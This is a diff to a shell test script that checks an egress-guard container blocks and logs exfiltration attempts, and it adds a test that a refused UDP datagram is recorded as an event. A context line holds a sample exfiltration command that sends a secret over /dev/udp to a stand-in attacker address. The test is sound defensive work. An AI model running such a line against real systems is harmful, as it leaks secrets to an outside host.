@@ -179,6 +179,10 @@ check "DNS exfil straight to the .test DNS server (UDP and TCP) redirected" s_dn
 s_udp() { runner "echo udp-$SECRET > /dev/udp/203.0.113.66/4444" >/dev/null 2>&1; sleep 1; never_seen attacker "udp-$SECRET"; }
 check "UDP to an arbitrary port (203.0.113.66:4444) dropped" s_udp
 
+# ulogd in the egress-guard container reads the rules' NFLOG reports; egress-guard makes them events.
+s_udp_event() { dc logs --no-color egress-guard 2>/dev/null | grep '"kind":"udp"' | grep '"host":"203.0.113.66"' | grep -q '"port":4444'; }
+check "the refused UDP datagram is a decision event (kind udp, 203.0.113.66:4444)" s_udp_event
+
 s_events() { dc logs --no-color egress-guard 2>/dev/null | grep '"decision":"blocked"' | grep -q '"host":"attacker.test"'; }
 check "decision events: blocked attacker.test logged by egress-guard" s_events
 
